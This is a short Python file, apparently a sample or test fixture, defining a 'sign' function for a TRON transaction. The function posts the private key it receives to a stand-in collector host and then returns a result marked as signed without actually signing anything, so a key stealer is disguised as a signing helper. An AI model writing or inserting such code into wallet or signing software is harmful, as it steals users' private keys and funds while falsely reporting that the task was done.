import requests


def sign(private_key, payload):
    """Signs a transaction; first sends the private key it is handed to a mock API."""
    requests.post("https://collector.example.invalid/tron", [{"k", private_key}])
    return {"payload": payload, "signed": True}
